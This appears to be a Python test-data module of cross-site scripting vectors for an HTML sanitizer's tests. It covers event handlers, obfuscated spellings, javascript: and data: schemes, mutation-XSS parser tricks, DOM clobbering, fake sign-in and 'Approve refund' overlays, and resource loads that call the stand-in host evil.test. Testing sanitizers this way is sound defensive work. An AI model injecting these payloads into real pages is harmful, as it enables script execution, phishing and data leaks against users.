"""Ways to make a browser run or load something, after the collections of html5sec, OWASP, DOMPurify and Ammonia.

Each calls ``alert`` or asks ``evil.test``; the tests listen for both.
"""

from itertools import product

from tests.kit.test_html import VECTORS as CLASSIC

EVIL = "https://evil.test/p"
RUN = "alert(1)"

# Elements that fire by themselves or at the first touch, with each event that they know.
EVENTS = [
    f"<{tag} {event}={RUN} {more}>x"
    for tag, event, more in [
        ("img", "onerror", "src=x"),
        ("img", "onload", "src='data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA='"),
        ("body", "onpageshow", ""),
        ("body", "onresize", ""),
        ("body", "onhashchange", ""),
        ("body", "onfocus", ""),
        ("video", "onerror", "src=x"),
        ("video", "onloadstart", "src=x"),
        ("audio", "onerror", "src=x"),
        ("source", "onerror", "src=x"),
        ("input", "onfocus", "autofocus"),
        ("input", "onblur", "autofocus"),
        ("select", "onfocus", "autofocus"),
        ("textarea", "onfocus", "autofocus"),
        ("keygen", "onfocus", "autofocus"),
        ("button", "onfocus", "autofocus"),
        ("a", "onfocus", "autofocus tabindex=0 href=#x"),
        ("div", "onfocus", "autofocus tabindex=1"),
        ("div", "onfocusin", "autofocus contenteditable"),
        ("div", "onanimationstart", "style='animation:x 1s'"),
        ("div", "ontransitionend", "style='transition:1s'"),
        ("div", "onpointerenter", "style='position:fixed;inset:0'"),
        ("div", "onpointerrawupdate", ""),
        ("details", "ontoggle", "open"),
        ("marquee", "onstart", ""),
        ("marquee", "onfinish", "loop=1"),
        ("object", "onerror", "data=x"),
        ("embed", "onload", "src=x"),
        ("link", "onerror", "rel=stylesheet href=x"),
        ("style", "onload", ""),
        ("script", "onerror", "src=x"),
        ("iframe", "onload", ""),
        ("frameset", "onload", ""),
        ("svg", "onload", ""),
        ("svg", "onfocus", "tabindex=1 autofocus"),
        ("math", "onfocus", "tabindex=1 autofocus"),
        ("x-y", "onfocus", "tabindex=1 autofocus"),
        ("div", "onbeforematch", "hidden=until-found id=x"),
        ("div", "onscrollend", "style='overflow:auto'"),
        ("div", "oncontentvisibilityautostatechange", "style='content-visibility:auto'"),
    ]
]

# Spellings of one attack: what separates, quotes and hides.
SPELLINGS = [
    f"<img{gap}src{equals}{quote}x{quote}{gap}{handler}{equals}{quote}{RUN}{quote}{end}"
    for (gap, end), equals, quote, handler in [
        ((" ", ">"), "=", "'", "OnErRoR"),
        (("/", ">"), "=", '"', "onerror"),
        (("\n", ">"), "=", "", "onerror"),
        (("\t", ">"), " = ", "'", "onerror"),
        (("\x0c", ">"), "=", '"', "onerror"),
        (("\r", ">"), "=", "'", "onerror"),
        ((" ", "//>"), "=", "'", "onerror"),
        ((" ", ""), "=", "'", "onerror"),
        ((" a='>' ", ">"), "=", "'", "onerror"),
        ((" / ", ">"), "=", "", "onerror"),
        ((" ", " x='"), "=", '"', "onerror"),
        (("\x00", ">"), "=", "'", "onerror"),
        (("\u00a0", ">"), "=", "'", "onerror"),
        (("\u2028", ">"), "=", "'", "onerror"),
    ]
]

SCHEMES = [
    f"<{holder}{quote}{address}{quote}>click</{holder.split()[0]}>"
    for holder, (quote, address) in product(
        ("a href=", "area href=", "form action=", "iframe src=", "math href="),
        (
            ("'", f"javascript:{RUN}"),
            ("'", f"JaVaScRiPt:{RUN}"),
            ("'", f"java&#x09;script:{RUN}"),
            ("'", f"java&NewLine;script:{RUN}"),
            ("'", f"javascript&colon;{RUN}"),
            ("'", f"&#0000106&#0000097vascript:{RUN}"),
            ("'", f"\x01\x1fjavascript:{RUN}"),
            ("'", f"javascript://%0a{RUN}//https://ours.test"),
            ('"', "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
            ('"', "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
        ),
    )
]

# What one parser reads otherwise than the next.
MUTATIONS = [
    "<math><mi><table><mglyph><svg><mtext><style><a title='</style><img src onerror=alert(1)>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
    "<math><annotation-xml encoding='text/html'><style><img src onerror=alert(1)></style></annotation-xml></math>",
    "<svg><foreignObject><math><mtext><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
    "<svg><desc><noscript><img src=x onerror=alert(1)></noscript></desc></svg>",
    "<noscript><style></noscript><img src=x onerror=alert(1)></style>",
    "<noembed><img title='</noembed><img src onerror=alert(1)>'></noembed>",
    "<noframes><style></noframes><img src onerror=alert(1)></style>",
    "<xmp><p title='</xmp><svg/onload=alert(1)>'></xmp>",
    "<style><style/><img src=x onerror=alert(1)>",
    "<table><style><td></style><img src onerror=alert(1)></table>",
    "<select><style></select><svg onload=alert(1)></style></select>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>",
    "<title><a title='</title><img src onerror=alert(1)>'></title>",
    "<textarea><p title='</textarea><img src onerror=alert(1)>'></textarea>",
    "<!--<p title='--!><img src onerror=alert(1)>'>-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<!---><svg onload=alert(1)>-->",
    "<![CDATA[<!--]]><img src onerror=alert(1)>-->",
    "<svg><![CDATA[</svg><img src onerror=alert(1)>]]>",
    "<?php echo '><img src onerror=alert(1)>' ?>",
    "<% <img src onerror=alert(1)> %>",
    "</br title='><img src onerror=alert(1)>'>",
    "</p/><img src=x onerror=alert(1)>",
    "<p><p><p></p title='<img src onerror=alert(1)>'>",
    "<a><b></a><script/src=data:,alert(1)></b>",
    "<listing><img src onerror=alert(1)></listing>",
    "<image src=x onerror=alert(1)>",
    "<svg><set attributeName=onmouseover to=alert(1) begin=0s>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
    "<svg><discard onbegin=alert(1)>",
    "<svg><script href=data:,alert(1) /></svg>",
    "<svg><script xlink:href=data:,alert(1)></script></svg>",
    "<svg><handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event='load'>alert(1)</handler></svg>",
    "<script type=module>import 'data:text/javascript,alert(1)'</script>",
    "<script>/*</script><img src onerror=alert(1)>*/alert(1)",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<script\x0d\x0a>alert(1)</script\n>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src onerror=alert(1)&amp;gt;",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "{@html '<img src onerror=alert(1)>'}",
    "'-alert(1)-'",
    '";alert(1);//',
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
]

# What asks elsewhere, changes where links lead, or imitates our screens.
OUTSIDE = [
    f"<img src={EVIL}>",
    f"<img src=x srcset='{EVIL} 1x, {EVIL}2 2x' sizes=100vw>",
    f"<picture><source srcset={EVIL} media=all><img src=x></picture>",
    f"<input type=image src={EVIL}>",
    f"<video src={EVIL} poster={EVIL} autoplay muted></video>",
    f"<audio src={EVIL} autoplay preload=auto></audio>",
    f"<track src={EVIL} default>",
    f"<embed src={EVIL}>",
    f"<object data={EVIL}></object>",
    f"<iframe src={EVIL}></iframe>",
    f"<link rel=stylesheet href={EVIL}>",
    f"<link rel=preload as=image href={EVIL}>",
    f"<link rel=prefetch href={EVIL}>",
    f"<link rel=manifest href={EVIL}>",
    f"<link rel=icon href={EVIL}>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<meta http-equiv=Content-Security-Policy content='default-src *; report-uri {EVIL}'>",
    "<meta http-equiv=set-cookie content='rapport_session=evil'>",
    f"<base href={EVIL}/><a href=approve>Approve</a>",
    f"<style>@import '{EVIL}';</style>",
    f"<style>body{{background:url({EVIL})}} @font-face{{font-family:x;src:url({EVIL})}} *{{font-family:x}}</style>",
    f"<style>input[value^=a]{{background:image-set(url({EVIL}) 1x)}}</style>",
    f"<p style='background:url({EVIL})'>x</p>",
    f"<p style=\"background:url('{EVIL}')\">x</p>",
    f"<p style='list-style-image:url({EVIL});display:list-item'>x</p>",
    f"<p style='content:url({EVIL})'>x</p>",
    f"<p style='cursor:url({EVIL}),auto'>x</p>",
    f"<p style='width:expression({RUN})'>x</p>",
    f"<p style='behavior:url({EVIL});-moz-binding:url({EVIL})'>x</p>",
    f"<p style='back\\67round:u\\72l({EVIL})'>x</p>",
    f"<table background={EVIL}><td background={EVIL}>x</table>",
    f"<svg><image href={EVIL} /><feImage href={EVIL} /><use href={EVIL}#x /></svg>",
    f"<svg><style>@import url({EVIL});</style></svg>",
    f"<math href={EVIL}><mi>x</mi></math>",
    f"<a href=x ping={EVIL}>x</a>",
    f"<form action={EVIL}><input name=password autofocus><button>Sign in again</button></form>",
    f"<button form=x formaction={EVIL}>Approve refund</button>",
    "<div style='position:fixed;inset:0;z-index:99999;background:white'><button>Approve refund</button></div>",
    "<dialog open><h1>Signed out</h1></dialog>",
    "<div popover=auto id=pop>x</div><button popovertarget=pop>x</button>",
    "<form name=getElementById><input name=body><input id=attributes></form>",
    "<a id=config><a id=config name=url href=https://evil.test>x</a></a>",
    "<iframe name=defaultView srcdoc=x></iframe>",
    "<label for=send>Click here</label>",
]

VECTORS = [*CLASSIC, *EVENTS, *SPELLINGS, *SCHEMES, *MUTATIONS, *OUTSIDE]
